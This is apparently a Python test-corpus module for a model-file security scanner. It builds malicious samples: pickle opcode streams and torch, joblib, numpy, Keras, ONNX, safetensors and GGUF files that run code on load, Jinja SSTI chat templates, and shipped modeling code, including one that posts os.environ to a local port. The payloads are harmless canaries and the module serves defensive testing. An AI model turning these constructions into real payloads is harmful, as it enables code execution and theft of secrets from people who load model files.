"""Malicious samples: one per technique a loader could be made to run code by.

Every payload is a canary: if any loader ever ran it, it would create the canary path (or open
a connection to a closed local port, read /dev/null, ...) and nothing else. Streams the pickle
module refuses to write are assembled opcode by opcode; ``pickle.dumps`` is used only where its
output is the realistic shape, since dumping never runs a ``__reduce__`` result.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import partial

from tests.corpus import opcodes as op
from tests.corpus.files import gguf_with_template, torch_bytes, torch_zip_with, zip_of
from tests.corpus.registry import Registry

MALICIOUS = Registry("malicious")
sample = MALICIOUS.sample


def touch(canary: str) -> str:
    """The shell command every os-level payload runs."""
    return f"touch {canary}"


def os_system(canary: str, protocol: int = 2, module: str = "os") -> bytes:
    """``module.system('touch canary')`` in the opcodes ``protocol`` uses."""
    return op.program(
        op.call(module, "system", op.text(touch(canary), protocol), protocol=protocol), protocol
    )


class _Call:
    """Pickles as ``func(*args)``: how real payloads are written with ``pickle.dumps``."""

    def __init__(self, func: Callable[..., object], *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.func, self.args


def _add_protocols() -> None:
    for protocol in range(6):
        MALICIOUS.add(
            f"reduce_os_system_p{protocol}.pkl",
            f"GLOBAL/STACK_GLOBAL os.system + REDUCE, protocol {protocol}",
            partial(os_system, protocol=protocol),
        )
    for module in ("posix", "nt"):
        MALICIOUS.add(
            f"alias_{module}_system.pkl",
            f"{module}.system alias of os.system",
            partial(os_system, module=module),
        )


_add_protocols()


# --- builtins -----------------------------------------------------------------------------------


def _python_code(canary: str) -> str:
    return f"open({canary!r}, 'w').close()"


@sample("builtin_py2_eval.pkl", "__builtin__.eval (Python 2 module name)")
def _builtin_eval(canary: str) -> bytes:
    return op.program(op.call("__builtin__", "eval", op.text(_python_code(canary))))


@sample("builtins_exec.pkl", "builtins.exec")
def _builtins_exec(canary: str) -> bytes:
    return op.program(op.call("builtins", "exec", op.text(_python_code(canary))))


@sample("builtins_getattr_import.pkl", "builtins.getattr on builtins.__import__('os')")
def _builtins_getattr(canary: str) -> bytes:
    os_module = op.call("builtins", "__import__", op.text("os"))
    system = op.call("builtins", "getattr", os_module, op.text("system"))
    return op.program(op.apply(system, op.text(touch(canary))))


# --- STACK_GLOBAL operand sources ----------------------------------------------------------------


def _stack_global_from(canary: str, *, push: Callable[[str], bytes]) -> bytes:
    callee = push("os") + push("system") + op.STACK_GLOBAL
    return op.program(op.apply(callee, op.text(touch(canary), 4)), 4)


for _opcode, _push in (("string", op.string), ("binunicode", op.binunicode)):
    MALICIOUS.add(
        f"stack_global_{_opcode}.pkl",
        f"STACK_GLOBAL fed by {_opcode.upper()}",
        partial(_stack_global_from, push=_push),
    )


@sample("stack_global_short_binunicode.pkl", "STACK_GLOBAL fed by SHORT_BINUNICODE")
def _stack_global_short(canary: str) -> bytes:
    return os_system(canary, 4)


@sample("stack_global_memo.pkl", "STACK_GLOBAL operands memoised, popped, then read back by BINGET")
def _stack_global_memo(canary: str) -> bytes:
    stash = op.short_binunicode("os") + op.MEMOIZE + op.POP + op.short_binunicode("system") + op.MEMOIZE
    callee = stash + op.POP + op.binget(0) + op.binget(1) + op.STACK_GLOBAL
    return op.program(op.apply(callee, op.text(touch(canary), 4)), 4)


# --- object construction opcodes -----------------------------------------------------------------


def _popen_args(canary: str, protocol: int = 2) -> bytes:
    return op.list_(op.text("touch", protocol), op.text(canary, protocol))


@sample("inst_popen.pkl", "INST subprocess.Popen")
def _inst(canary: str) -> bytes:
    return op.program(op.MARK + _popen_args(canary, 0) + b"isubprocess\nPopen\n", 0)


@sample("obj_popen.pkl", "OBJ subprocess.Popen")
def _obj(canary: str) -> bytes:
    return op.program(op.MARK + op.global_("subprocess", "Popen") + _popen_args(canary) + op.OBJ, 1)


@sample("newobj_popen.pkl", "NEWOBJ subprocess.Popen")
def _newobj(canary: str) -> bytes:
    return op.program(op.global_("subprocess", "Popen") + op.tuple_(_popen_args(canary)) + op.NEWOBJ)


@sample("newobj_ex_popen.pkl", "NEWOBJ_EX subprocess.Popen")
def _newobj_ex(canary: str) -> bytes:
    kwargs = op.dict_((op.text("args", 4), _popen_args(canary)))
    return op.program(op.stack_global("subprocess", "Popen") + op.EMPTY_TUPLE + kwargs + op.NEWOBJ_EX, 4)


@sample("build_setstate_namespace.pkl", "BUILD sets an instance __setstate__, a second BUILD calls it")
def _build_setstate(canary: str) -> bytes:
    instance = op.call("argparse", "Namespace")
    slotstate = op.dict_((op.text("__setstate__"), op.global_("os", "system")))
    first = op.NONE + slotstate + op.TUPLE2 + op.BUILD
    return op.program(instance + first + op.text(touch(canary)) + op.BUILD)


def _extension_call(canary: str, *, opcode: bytes, width: int) -> bytes:
    # Code 1 fits every width; a loader resolves it through copyreg's extension registry.
    return op.program(op.apply(opcode + (1).to_bytes(width, "little"), op.text(touch(canary))))


for _width, _ext in ((1, b"\x82"), (2, b"\x83"), (4, b"\x84")):
    MALICIOUS.add(
        f"ext{_width}_callable.pkl",
        f"EXT{_width} extension-registry callable",
        partial(_extension_call, opcode=_ext, width=_width),
    )


# --- names resolved through innocent modules -----------------------------------------------------


@sample("dotted_stack_global_random_os.pkl", "protocol 4 dotted name random._os.system")
def _dotted_stack_global(canary: str) -> bytes:
    return op.program(op.apply(op.stack_global("random", "_os.system"), op.text(touch(canary), 4)), 4)


@sample("dotted_global_logging_os.pkl", "protocol 4 GLOBAL with dotted name logging.os.system")
def _dotted_global(canary: str) -> bytes:
    return op.program(op.apply(op.global_("logging", "os.system"), op.text(touch(canary), 4)), 4)


def _os_via_argparse_globals() -> bytes:
    """The os module, reached as argparse.Namespace.__init__.__globals__['_os'] with operator."""
    module_globals = op.apply(
        op.call("_operator", "attrgetter", op.text("__init__.__globals__")),
        op.global_("argparse", "Namespace"),
    )
    return op.apply(op.call("_operator", "itemgetter", op.text("_os")), module_globals)


@sample("operator_attrgetter_chain.pkl", "_operator.attrgetter/itemgetter walk to os.system")
def _attrgetter(canary: str) -> bytes:
    system = op.apply(op.call("_operator", "attrgetter", op.text("system")), _os_via_argparse_globals())
    return op.program(op.apply(system, op.text(touch(canary))))


@sample("operator_methodcaller.pkl", "operator.methodcaller('system', cmd) on the os module")
def _methodcaller(canary: str) -> bytes:
    caller = op.call("operator", "methodcaller", op.text("system"), op.text(touch(canary)))
    return op.program(op.apply(caller, op.global_("argparse", "_os")))


@sample("sys_modules_override.pkl", "sys.modules entry replaced, then a global read from it")
def _sys_modules(canary: str) -> bytes:
    override = op.global_("sys", "modules") + op.text("innocent_helpers") + op.global_("argparse", "_os")
    override += op.SETITEM + op.POP
    return op.program(override + op.call("innocent_helpers", "system", op.text(touch(canary))))


def _resolved_call(canary: str, *, module: str, name: str, target: str) -> bytes:
    return op.program(op.apply(op.call(module, name, op.text(target)), op.text(touch(canary))))


for _resolver, _module, _name, _target in (
    ("pkgutil_resolve_name", "pkgutil", "resolve_name", "os:system"),
    ("pydoc_locate", "pydoc", "locate", "os.system"),
):
    MALICIOUS.add(
        f"{_resolver}.pkl",
        f"indirect resolver {_module}.{_name}",
        partial(_resolved_call, module=_module, name=_name, target=_target),
    )


@sample("importlib_import_module.pkl", "importlib.import_module('os') then its system attribute")
def _import_module(canary: str) -> bytes:
    os_module = op.call("importlib", "import_module", op.text("os"))
    system = op.apply(op.call("_operator", "attrgetter", op.text("system")), os_module)
    return op.program(op.apply(system, op.text(touch(canary))))


# --- nested loaders ------------------------------------------------------------------------------


def _nested_loader(canary: str, *, module: str, name: str) -> bytes:
    return op.program(op.call(module, name, op.binbytes(os_system(canary))), 3)


for _module, _name in (("pickle", "loads"), ("_pickle", "loads"), ("torch.storage", "_load_from_bytes")):
    MALICIOUS.add(
        f"nested_loader_{_module.replace('.', '_')}_{_name}.pkl",
        f"{_module}.{_name} of an inner malicious pickle",
        partial(_nested_loader, module=_module, name=_name),
    )


@sample("marshal_function.pkl", "types.FunctionType(marshal.loads(code), {})()")
def _marshal(canary: str) -> bytes:
    code = marshal.dumps(compile(_python_code(canary), "<payload>", "exec"))
    function = op.call("types", "FunctionType", op.call("marshal", "loads", op.binbytes(code)), op.EMPTY_DICT)
    return op.program(op.apply(function), 3)


# --- standard library reaching the OS, files or the network --------------------------------------

_STDLIB_CALLS: tuple[tuple[str, str, Callable[[str], tuple[bytes, ...]]], ...] = (
    ("runpy", "_run_code", lambda c: (op.text(_python_code(c)), op.EMPTY_DICT)),
    ("pty", "spawn", lambda c: (op.list_(op.text("touch"), op.text(c)),)),
    ("webbrowser", "open", lambda c: (op.text(f"file://{c}"),)),
    ("socket", "create_connection", lambda c: (op.tuple_(op.text("127.0.0.1"), op.integer(9)),)),
    ("urllib.request", "urlopen", lambda c: (op.text("http://127.0.0.1:9/canary"),)),
    ("io", "FileIO", lambda c: (op.text(c), op.text("w"))),
    ("logging", "FileHandler", lambda c: (op.text(c),)),
    ("shutil", "copy", lambda c: (op.text(os.devnull), op.text(c))),
    ("builtins", "open", lambda c: (op.text(c), op.text("w"))),
    ("ctypes", "CDLL", lambda c: (op.text(c),)),
)


def _stdlib_call(canary: str, *, module: str, name: str, args: Callable[[str], tuple[bytes, ...]]) -> bytes:
    return op.program(op.call(module, name, *args(canary)))


for _module, _name, _args in _STDLIB_CALLS:
    MALICIOUS.add(
        f"stdlib_{_module.replace('.', '_')}_{_name.strip('_')}.pkl",
        f"{_module}.{_name}",
        partial(_stdlib_call, module=_module, name=_name, args=_args),
    )


@sample("code_interactive_interpreter.pkl", "code.InteractiveInterpreter().runsource(src)")
def _interactive(canary: str) -> bytes:
    interpreter = op.call("code", "InteractiveInterpreter", protocol=4)
    runsource = op.stack_global("code", "InteractiveInterpreter.runsource")
    return op.program(op.apply(runsource, interpreter, op.text(_python_code(canary), 4)), 4)


# --- stream-level tricks -------------------------------------------------------------------------


@sample("stacked_benign_then_malicious.pkl", "second pickle stream after a benign first one")
def _stacked(canary: str) -> bytes:
    return pickle.dumps({"weights": [0.5, 1.5]}, protocol=2) + os_system(canary)


@sample("payload_then_garbage.pkl", "payload followed by bytes that are no pickle")
def _garbage(canary: str) -> bytes:
    return os_system(canary) + b"\xff\xfe\x00garbage that no unpickler reads" * 4


@sample("payload_then_unset_memo.pkl", "stream errors (unset memo) only after the call ran")
def _unset_memo(canary: str) -> bytes:
    return op.header(2) + op.call("os", "system", op.text(touch(canary))) + op.binget(99) + op.STOP


@sample("frame_boundary_divergence.pkl", "protocol 4 FRAME ends inside an argument; C unpickler reads on")
def _frame_divergence(canary: str) -> bytes:
    body = op.apply(op.stack_global("os", "system"), op.text(touch(canary), 4)) + op.STOP
    cut = len(op.short_binunicode("os")) + 3  # inside the bytes of "system"
    return op.header(4) + b"\x95" + struct.pack("<Q", cut) + body


@sample("pickle_in_binbytes.pkl", "malicious pickle held in a BINBYTES of a benign pickle")
def _in_binbytes(canary: str) -> bytes:
    return pickle.dumps({"state": os_system(canary) + b"\x00" * 300}, protocol=3)


@sample("pickle_in_base64.pkl", "malicious pickle held base64-encoded in a str of a benign pickle")
def _in_base64(canary: str) -> bytes:
    return pickle.dumps({"state": base64.b64encode(os_system(canary)).decode()}, protocol=4)


@sample("pickle_in_hex.pkl", "malicious pickle held hex-encoded in a str of a benign pickle")
def _in_hex(canary: str) -> bytes:
    return pickle.dumps({"state": os_system(canary).hex()}, protocol=4)


# --- containers ----------------------------------------------------------------------------------


def torch_zip_malicious(canary: str) -> bytes:
    """A real torch zip checkpoint whose data.pkl runs the payload."""
    return torch_zip_with(os_system(canary))


sample("torch_zip_data_pkl.pt", "torch zip checkpoint with malicious data.pkl")(torch_zip_malicious)


@sample("polyglot_pickle_then_zip.pt", "benign pickle at the start, zip at the end with a malicious member")
def _polyglot_zip_tail(canary: str) -> bytes:
    return pickle.dumps({"epoch": 3}, protocol=2) + torch_zip_malicious(canary)


@sample("polyglot_malicious_pickle_then_zip.pt", "malicious pickle prefix before a benign zip")
def _polyglot_pickle_head(canary: str) -> bytes:
    import torch

    return os_system(canary) + torch_bytes({"w": torch.zeros(4)})


def _patch_headers(archive: bytes, patch: Callable[[bytearray, int, int], None]) -> bytes:
    """Apply ``patch(buffer, offset, header_kind)`` to every local (0) and central (1) header."""
    buffer = bytearray(archive)
    for kind, signature in ((0, b"PK\x03\x04"), (1, b"PK\x01\x02")):
        start = buffer.find(signature)
        while start != -1:
            patch(buffer, start, kind)
            start = buffer.find(signature, start + 4)
    return bytes(buffer)


def _data_pkl_headers(patch: Callable[[bytearray, int, int], None]) -> Callable[[bytearray, int, int], None]:
    """Restrict a header patch to the data.pkl member."""

    def only_data_pkl(buffer: bytearray, start: int, kind: int) -> None:
        name_at = start + (30 if kind == 0 else 46)
        length_at = start + (26 if kind == 0 else 28)
        length = int.from_bytes(buffer[length_at : length_at + 2], "little")
        if bytes(buffer[name_at : name_at + length]).endswith(b"data.pkl"):
            patch(buffer, start, kind)

    return only_data_pkl


def _bad_crc(buffer: bytearray, start: int, kind: int) -> None:
    crc_at = start + (14 if kind == 0 else 16)
    buffer[crc_at : crc_at + 4] = b"\xde\xad\xbe\xef"


def _encrypted_flag(buffer: bytearray, start: int, kind: int) -> None:
    flag_at = start + (6 if kind == 0 else 8)
    buffer[flag_at] |= 0x01


def _local_name_differs(buffer: bytearray, start: int, kind: int) -> None:
    if kind == 0:
        name_at = start + 30 + int.from_bytes(buffer[start + 26 : start + 28], "little") - 3
        buffer[name_at : name_at + 3] = b"txt"


def _patched_torch_zip(canary: str, *, patch: Callable[[bytearray, int, int], None]) -> bytes:
    return _patch_headers(torch_zip_malicious(canary), _data_pkl_headers(patch))


for _variant, _patch, _what in (
    ("bad_crc", _bad_crc, "CRC of data.pkl wrong in both headers"),
    ("encrypted_flag", _encrypted_flag, "encryption flag bit set on a stored, unencrypted data.pkl"),
    ("name_mismatch", _local_name_differs, "local header names data.txt, central directory data.pkl"),
):
    MALICIOUS.add(
        f"torch_zip_{_variant}.pt",
        f"torch zip, {_what}",
        partial(_patched_torch_zip, patch=_patch),
    )


@sample("torch_zip_renamed_member.pt", "malicious pickle as archive/weights.txt in a torch zip")
def _renamed(canary: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(torch_zip_with(pickle.dumps({})))) as template:
        members = {info.filename: template.read(info) for info in template.infolist()}
    members["archive/weights.txt"] = os_system(canary)
    return zip_of(members)


@sample("zip_in_zip.zip", "malicious torch zip stored inside another zip")
def _zip_in_zip(canary: str) -> bytes:
    return zip_of({"checkpoints/model.pt": torch_zip_malicious(canary)}, zipfile.ZIP_DEFLATED)


@sample("torch_legacy_tar.tar", "legacy torch tar format with a malicious 'pickle' member")
def _legacy_tar(canary: str) -> bytes:
    from tests.corpus.files import tar_of

    return tar_of(
        {"sys_info": pickle.dumps({}), "pickle": os_system(canary), "storages": b"", "tensors": b""}
    )


@sample("torch_legacy_third_pickle.pt", "legacy stacked-pickle torch format, malicious third pickle")
def _legacy_stacked(canary: str) -> bytes:
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    version = pickle.dumps(1001, protocol=2)
    return magic + version + os_system(canary) + pickle.dumps({"w": []}, protocol=2) + pickle.dumps([])


_COMPRESSORS: dict[str, Callable[[bytes], bytes]] = {
    "zlib": zlib.compress,
    "gzip": gzip.compress,
    "bz2": bz2.compress,
    "xz": lzma.compress,
    "lzma": lambda data: lzma.compress(data, format=lzma.FORMAT_ALONE),
}


def _joblib_compressed(canary: str, *, method: str) -> bytes:
    import joblib

    buffer = io.BytesIO()
    joblib.dump({"model": _Call(os.system, touch(canary))}, buffer, compress=(method, 3))
    return buffer.getvalue()


for _method in _COMPRESSORS:
    MALICIOUS.add(
        f"joblib_{_method}.joblib",
        f"joblib.dump compress={_method} of a malicious pickle",
        partial(_joblib_compressed, method=_method),
    )


def _npy_object_array(canary: str) -> bytes:
    import numpy as np

    array = np.empty(2, dtype=object)
    array[0], array[1] = "label", _Call(os.system, touch(canary))
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


sample("numpy_object_array.npy", ".npy object array whose pickle calls os.system")(_npy_object_array)


@sample("numpy_object_array.npz", ".npz holding that object array")
def _npz(canary: str) -> bytes:
    return zip_of({"weights.npy": _npy_object_array(canary)}, zipfile.ZIP_DEFLATED)


@sample("deflate_bomb.zip", "deflate bomb: 64 MiB of zeros in a member of a few KiB")
def _bomb(canary: str) -> bytes:
    return zip_of({"archive/data/0": bytes(64 << 20)}, zipfile.ZIP_DEFLATED)


@sample("nesting_too_deep.zip", "zips nested deeper than the scanner's depth limit")
def _deep(canary: str) -> bytes:
    data = os_system(canary)
    for level in range(16):
        data = zip_of({f"level{level}.zip" if level else "data.pkl": data})
    return data


# --- Keras, ONNX, TensorFlow ---------------------------------------------------------------------


def _keras_model_config(layer: dict[str, object]) -> dict[str, object]:
    dense = {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": "dense", "units": 2, "activation": "linear"},
        "registered_name": None,
    }
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": [dense, layer]},
        "registered_name": None,
    }


def _lambda_layer(canary: str) -> dict[str, object]:
    source = f"lambda x: __import__('os').system('touch {canary}') or x"
    code = marshal.dumps(compile(source, "<lambda>", "eval").co_consts[0])
    function = {"class_name": "__lambda__", "config": {"code": base64.b64encode(code).decode()}}
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "lambda", "function": function, "arguments": {}},
        "registered_name": None,
    }


def _os_module_layer(canary: str) -> dict[str, object]:
    return {
        "module": "os",
        "class_name": "system",
        "config": {"command": touch(canary)},
        "registered_name": None,
    }


def _keras_zip(config: dict[str, object]) -> bytes:
    metadata = {"keras_version": "3.3.3", "date_saved": "2024-05-01@10:00:00"}
    return zip_of(
        {
            "metadata.json": json.dumps(metadata).encode(),
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": b"",
        }
    )


def _keras_with(canary: str, *, layer: Callable[[str], dict[str, object]]) -> bytes:
    return _keras_zip(_keras_model_config(layer(canary)))


for _layer_kind, _layer in (("lambda", _lambda_layer), ("os_module", _os_module_layer)):
    MALICIOUS.add(
        f"keras_{_layer_kind}.keras",
        f".keras zip whose config has a {_layer_kind} layer",
        partial(_keras_with, layer=_layer),
    )


@sample("keras_lambda.h5", "HDF5 Keras model whose model_config has a Lambda layer")
def _keras_h5(canary: str) -> bytes:
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as handle:
        handle.attrs["model_config"] = json.dumps(_keras_model_config(_lambda_layer(canary)))
        handle.attrs["keras_version"] = "2.15.0"
        handle.attrs["backend"] = "tensorflow"
        handle.create_group("model_weights")
    return buffer.getvalue()


def _onnx_model(canary: str, *, domain: str, location: str | None) -> bytes:
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.zeros((2, 2), dtype=np.float32), "W")
    if location is not None:
        weight.ClearField("raw_data")
        weight.data_location = TensorProto.EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", "16")):
            weight.external_data.add(key=key, value=value)
    node = helper.make_node("MatMul" if not domain else "Exec", ["X", "W"], ["Y"], domain=domain)
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 2])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])],
        [weight],
    )
    imports = [helper.make_opsetid("", 17)] + ([helper.make_opsetid(domain, 1)] if domain else [])
    return bytes(helper.make_model(graph, opset_imports=imports).SerializeToString())


sample("onnx_external_data_escape.onnx", "ONNX external data path ../../../etc/passwd")(
    lambda canary: _onnx_model(canary, domain="", location="../../../etc/passwd")
)
sample("onnx_custom_op_domain.onnx", "ONNX node in a custom operator domain (native library)")(
    lambda canary: _onnx_model(canary, domain="com.attacker.ops", location=None)
)


def _field(number: int, payload: bytes) -> bytes:
    """A length-delimited protobuf field (wire type 2); every length here fits one byte."""
    assert len(payload) < 128
    return bytes([number << 3 | 2, len(payload)]) + payload


def _saved_model(*ops: str) -> bytes:
    nodes = b"".join(
        _field(1, _field(1, f"node{i}".encode()) + _field(2, o.encode())) for i, o in enumerate(ops)
    )
    return b"\x08\x01" + _field(2, _field(2, nodes))


sample("savedmodel_pyfunc.pb", "TensorFlow SavedModel with PyFunc and ReadFile ops")(
    lambda canary: _saved_model("Placeholder", "ReadFile", "PyFunc")
)


# --- safetensors, GGUF ---------------------------------------------------------------------------


def _safetensors(tensors: dict[str, tuple[int, int]], data: bytes) -> bytes:
    header = {
        name: {"dtype": "F32", "shape": [(end - begin) // 4], "data_offsets": [begin, end]}
        for name, (begin, end) in tensors.items()
    }
    encoded = json.dumps(header).encode()
    return struct.pack("<Q", len(encoded)) + encoded + data


sample("safetensors_hidden_bytes.safetensors", "safetensors with bytes no tensor covers")(
    lambda canary: _safetensors(
        {"a": (0, 16), "b": (64, 80)}, bytes(16) + os_system(canary).ljust(48) + bytes(16)
    )
)
sample("safetensors_overlap.safetensors", "safetensors with overlapping tensor offsets")(
    lambda canary: _safetensors({"a": (0, 32), "b": (16, 48)}, bytes(48))
)


def _ssti_templates(canary: str) -> dict[str, str]:
    return {
        "cycler_globals": f"{{{{ cycler.__init__.__globals__.os.popen('touch {canary}').read() }}}}",
        "attr_filter": (
            "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')()"
            f"|map(attr='__init__')|list }}}}{{# touch {canary} #}}"
        ),
        "concatenated_globals": (
            "{% set g = '__glo' ~ 'bals__' %}{% set o = 'o' ~ 's' %}"
            f"{{{{ joiner.__init__[g][o].popen('touch {canary}') }}}}"
        ),
    }


sample("gguf_chat_template_ssti.gguf", "GGUF tokenizer.chat_template with a Jinja SSTI")(
    lambda canary: gguf_with_template(_ssti_templates(canary)["cycler_globals"])
)


def _tokenizer_config(canary: str, *, variant: str) -> bytes:
    template = _ssti_templates(canary)[variant]
    return json.dumps({"tokenizer_class": "LlamaTokenizerFast", "chat_template": template}).encode()


for _variant in ("cycler_globals", "attr_filter", "concatenated_globals"):
    MALICIOUS.add(
        f"tokenizer_config_{_variant}.json",
        f"tokenizer_config.json chat_template SSTI via {_variant.replace('_', ' ')}",
        partial(_tokenizer_config, variant=_variant),
    )


@sample("config_auto_map_foreign.json", "config.json auto_map into another repository's code")
def _auto_map(canary: str) -> bytes:
    config = {
        "model_type": "llama",
        "architectures": ["LlamaForCausalLM"],
        "auto_map": {"AutoModelForCausalLM": "other-org/repo--modeling.Model"},
    }
    return json.dumps(config).encode()


_SHIPPED_CODE: dict[str, Callable[[str], str]] = {
    "import_os_system": lambda c: f"import os\n\nos.system('touch {c}')\n\n\nclass Model:\n    pass\n",
    "exec_base64": lambda c: (
        f"import base64\n\nexec(base64.b64decode({base64.b64encode(_python_code(c).encode()).decode()!r}))\n"
    ),
    "network_exfiltration": lambda c: (
        "import os\nimport urllib.request\n\n"
        "urllib.request.urlopen('http://127.0.0.1:9/c', data=repr(dict(os.environ)).encode())\n"
    ),
}


def _shipped_code(canary: str, *, source: Callable[[str], str]) -> bytes:
    return source(canary).encode()


for _variant, _source in _SHIPPED_CODE.items():
    MALICIOUS.add(
        f"modeling_evil_{_variant}.py",
        f"shipped Python with import-time {_variant.replace('_', ' ')}",
        partial(_shipped_code, source=_source),
    )


# --- getattr, judged where it is called ----------------------------------------------------------


@sample("getattr_module_attribute_path.pkl", "getattr(torch._utils, 'os') then getattr(os, 'system')")
def _getattr_module_path(canary: str) -> bytes:
    utils_os = op.apply(op.global_("builtins", "getattr"), op.global_("torch", "_utils"), op.text("os"))
    system = op.apply(op.global_("builtins", "getattr"), utils_os, op.text("system"))
    return op.program(op.apply(system, op.text(touch(canary))))


@sample("getattr_dunder_of_made_object.pkl", "getattr(<OrderedDict instance>, '__reduce_ex__') called")
def _getattr_dunder(canary: str) -> bytes:
    made = op.call("collections", "OrderedDict")
    method = op.apply(op.global_("builtins", "getattr"), made, op.text("__reduce_ex__"))
    return op.program(op.apply(method, op.integer(2)))


@sample("getattr_with_default.pkl", "getattr(os, 'system', None): a three-argument getattr")
def _getattr_default(canary: str) -> bytes:
    system = op.apply(
        op.global_("builtins", "getattr"), op.global_("torch", "_utils"), op.text("os"), op.NONE
    )
    return op.program(op.apply(system, op.text(touch(canary))))


@sample("getattr_passed_to_allowed_caller.pkl", "getattr handed to _rebuild_from_type_v2, which calls it")
def _getattr_passed(canary: str) -> bytes:
    rebuild = op.call(
        "torch._tensor",
        "_rebuild_from_type_v2",
        op.global_("builtins", "getattr"),
        op.global_("torch", "Tensor"),
        op.tuple_(op.global_("torch", "_utils"), op.text("os")),
        op.EMPTY_DICT,
    )
    return op.program(rebuild)


@sample("getattr_memoised_then_misused.pkl", "getattr used once as a bound-method lookup, then from the memo")
def _getattr_memo(canary: str) -> bytes:
    first = op.apply(
        op.global_("builtins", "getattr") + b"q\x07", op.call("collections", "OrderedDict"), op.text("keys")
    )
    second = op.apply(op.binget(7), op.global_("random", "_os"), op.text("system"))
    return op.program(op.tuple_(first, op.apply(second, op.text(touch(canary)))))
